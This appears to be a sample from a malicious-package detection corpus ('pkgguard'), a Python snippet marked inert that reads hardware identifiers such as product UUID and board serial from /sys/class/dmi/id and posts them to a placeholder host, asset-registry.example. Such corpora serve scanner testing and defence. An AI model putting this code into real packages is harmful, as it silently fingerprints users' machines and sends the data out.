# pkgguard corpus 626 (system-information), modelled on [checkmarx-2024]; inert, never run.
import json
import urllib.request

facts = {}
for key in ("product_uuid", "product_serial", "board_serial", "sys_vendor"):
    try:
        with open(f"/sys/class/dmi/id/{key}") as fh:
            facts[key] = fh.read().strip()
    except OSError:
        pass
urllib.request.urlopen(
    urllib.request.Request("https://asset-registry.example/m", data=json.dumps(facts).encode()),
    timeout=10,
)
